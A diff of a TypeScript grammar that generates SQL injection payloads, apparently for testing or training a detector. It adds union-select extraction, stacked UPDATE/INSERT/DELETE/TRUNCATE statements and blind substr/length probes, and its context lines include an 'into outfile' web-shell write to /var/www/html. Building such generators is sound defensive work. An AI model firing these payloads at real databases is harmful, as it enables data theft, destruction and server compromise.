@@ -1,10 +1,46 @@
-import { basics, createExpander, type Grammar } from "../grammar.ts";
+import type { Random } from "../../random.ts";
+import { anyWord, basics, createExpander, type Grammar } from "../grammar.ts";
+
+/** Name of a table or column as applications have them, which no list of targets knows. */
+function identifier(random: Random): string {
+  const word = anyWord(random);
+  return random.pick([
+    word,
+    word,
+    `${word}_${anyWord(random)}`,
+    `${word}_id`,
+    `${word}s`,
+    `${random.pick(["t", "app", "wp", "auth", "tbl"])}_${word}`,
+    `${word}${anyWord(random).replace(/^./, (c) => c.toUpperCase())}`,
+    `${random.pick(["a", "t", "u", "public", "dbo"])}.${word}`,
+  ]);
+}
+
+/** A value as statements write it. */
+function literal(random: Random): string {
+  return random.pick([
+    String(random.between(0, 9)),
+    String(random.between(0, 99999)),
+    "null",
+    `'${anyWord(random)}'`,
+    `'${anyWord(random)}'`,
+    `'${anyWord(random)}@${anyWord(random)}.com'`,
+    "''",
+    "1",
+    "true",
+    "now()",
+    `"${anyWord(random)}"`,
+  ]);
+}
+
+const several = (random: Random, most: number, one: () => string) =>
+  Array.from({ length: random.between(1, most) }, one).join(random.pick([",", ",", ", "]));
 
 /** SQL injection by dialect and technique, from whole payloads down to fragments of three characters. */
 const grammar: Grammar = {
   ...basics,
   attack:
-    "‹boolean›\n‹boolean›\n‹boolean›\n‹union›\n‹union›\n‹stacked›\n‹timed›\n‹timed›\n‹error›\n‹fragment›\n‹login›\n‹order›\n‹inline›\n‹embedded›\n‹bare›\n‹bare›\n‹filter›",
+    "‹boolean›\n‹boolean›\n‹boolean›\n‹union›\n‹union›\n‹stacked›\n‹timed›\n‹timed›\n‹error›\n‹fragment›\n‹login›\n‹order›\n‹inline›\n‹embedded›\n‹bare›\n‹bare›\n‹filter›\n‹schema›\n‹schema›\n‹schema›\n‹schema›",
   sp: " \n \n \n \n \n+\n/**/\n%20\n\t\n  \n%09\n%0a\n/*‹xx›*/",
   val: "‹n›\n‹nn›\n‹nnn›\n‹nnnn›\n-‹n›\n-‹nnnn›\n‹word›\n‹xx›\nadmin\ntest\nnull\n\n\n0\n1\n-1\n1.0\n‹word› ‹word›\n‹word›@‹word›.com",
   q: "'\n'\n'\n'\n\"\n\"\n`\n')\n'))\n')))\n\")\n\"))\n)\n))\n%'\n')%\n\\'\n''\n'\"\n’\n%27\n%22",
@@ -81,6 +117,19 @@ const grammar: Grammar = {
       ]);
     return Array.from({ length: r.between(1, 12) }, one).join(r.pick([",", ",", ", "]));
   },
+  ident: identifier,
+  idents: (r) => several(r, 6, () => identifier(r)),
+  assigns: (r) => several(r, 3, () => `${identifier(r)}=${literal(r)}`),
+  values: (r) =>
+    several(r, 9, () =>
+      r.chance(0.2)
+        ? `(select ${identifier(r)} from ${identifier(r)}${r.pick(["", " limit 1", " limit 0,1"])})`
+        : literal(r),
+    ),
+  cond: (r) => `${identifier(r)}${r.pick(["=", "=", ">", "<>", " like ", " is not ", ">="])}${literal(r)}`,
+  lead: "‹val›\n‹val›\n‹word› ‹word›\n‹word› ‹word› ‹word›\n/‹word›/‹word›-‹word›\n‹word›-‹word›\n‹word›.‹word›\n\n(‹word›)\n‹word›:‹word›",
+  schema:
+    "‹lead›‹q›‹sp›union‹sp›select‹sp›‹idents›‹sp›from‹sp›‹ident›‹close›\n‹lead›‹q› union all select ‹idents› from ‹ident› where ‹cond›‹close›\n‹n›) union select ‹idents› from ‹ident› where ‹cond›‹close›\n‹nn› UNION ALL SELECT ‹idents› FROM ‹ident› ORDER BY ‹n›‹close›\n‹lead›‹q› union select ‹n›,‹idents›,‹n› from ‹ident› limit ‹n›,‹n›‹close›\n‹lead›‹q› union select ‹idents› from ‹ident› ‹letter› join ‹ident› on ‹ident›=‹ident›‹close›\n‹lead›‹q›) union select group_concat(‹ident›) from ‹ident›‹close›\n‹lead›‹q›,‹values›)‹close›\n‹lead›‹q›),(‹values›)‹close›\n‹lead›‹q›, ‹values›); ‹close›\n‹lead›‹q›,‹values›),(‹q›‹word›‹q›,‹values›)‹close›\n‹lead›‹q›,‹assigns›‹close›\n‹lead›‹q›,‹assigns› where ‹cond›‹close›\n‹lead›‹q›;‹sp›update‹sp›‹ident›‹sp›set‹sp›‹assigns›‹close›\n‹lead›‹q›;UPDATE ‹ident› SET ‹assigns› WHERE ‹cond›;‹close›\n‹lead›‹q›); update ‹ident› set ‹assigns› where ‹cond›‹close›\n‹lead›‹q›; insert into ‹ident›(‹idents›) values(‹values›)‹close›\n‹lead›‹q›;INSERT INTO ‹ident› VALUES (‹values›);‹close›\n‹lead›‹q›; replace into ‹ident› select ‹idents› from ‹ident›‹close›\n‹lead›‹q›;delete from ‹ident› where ‹cond›‹close›\n‹n›;delete from ‹ident›‹close›\n‹lead›‹q›;create table ‹ident› as select ‹idents› from ‹ident›‹close›\n‹lead›‹q›; select ‹idents› from ‹ident› where ‹cond›‹close›\n‹n›; select ‹idents› from ‹ident›‹close›\n‹lead›‹q›;do $$ begin perform ‹ident›(); end $$‹close›\n‹lead›‹q›; call ‹ident›(‹values›)‹close›\n‹lead›‹q›; begin; ‹delete from|truncate table› ‹ident›; commit‹close›\n‹lead›‹q›;set @‹letter›=(select ‹ident› from ‹ident› limit 1)‹close›\n‹lead›‹q› ‹logic› (select ‹ident› from ‹ident› where ‹cond› limit 1)=‹qq›‹word›‹qq›‹close›\n‹lead›‹q› ‹logic› ‹cond› ‹logic› ‹cond›‹close›\n‹lead›‹q› ‹logic› ‹ident› in (select ‹ident› from ‹ident›)‹close›\n‹lead›‹q› ‹logic› exists(select ‹n› from ‹ident› where ‹cond›)‹close›\n‹ident› ‹asc|desc›,(select ‹ident› from ‹ident› limit 1)\n(select ‹n› from ‹ident› where ‹cond› and substr(‹ident›,‹n›,1)=‹qq›‹letter›‹qq›)\n‹lead›‹q›||(select ‹ident› from ‹ident› where ‹cond›)||‹q›\n‹lead›‹q› and (select length(‹ident›) from ‹ident› limit ‹n›,1)>‹n›‹close›\n‹lead›‹q› group by ‹ident› having count(*)>‹n›‹close›",
   union:
     "‹val›‹q›‹sp›union‹sp›select‹sp›‹cols›‹close›\n‹val›‹q› union all select ‹cols›‹close›\n‹val› union select ‹cols› from ‹table›‹close›\n‹val›‹q› UNION SELECT ‹cols› FROM ‹table› WHERE ‹pair›‹close›\n‹val›‹q›‹sp›UnIoN‹sp›aLL‹sp›SeLeCt‹sp›‹cols›\n‹val›)‹sp›union‹sp›select‹sp›‹cols›‹close›\nunion select ‹cols›\nunion all select ‹cols›‹close›\n‹val›‹q› /*!‹nnnn›union*/ /*!‹nnnn›select*/ ‹cols›‹close›\n‹val›‹q› union(select(‹n›),(‹n›))‹close›\n‹val›‹q› union distinct select ‹cols› from ‹table›\n‹q›‹q› union select ‹cols› into outfile ‹qq›/var/www/html/‹xx›.php‹qq›‹close›\n‹val›‹q›/**/union/**/select/**/‹cols›‹close›\n‹val›‹q› union values(‹n›,‹n›)‹close›\n‹val›‹q› union select * from ‹table›‹close›\n‹val›‹q›%0aunion%0aselect%0a‹cols›‹close›\n‹val›‹q› union select ‹cols› from (select ‹n›)a join (select ‹n›)b‹close›",
   stacked:
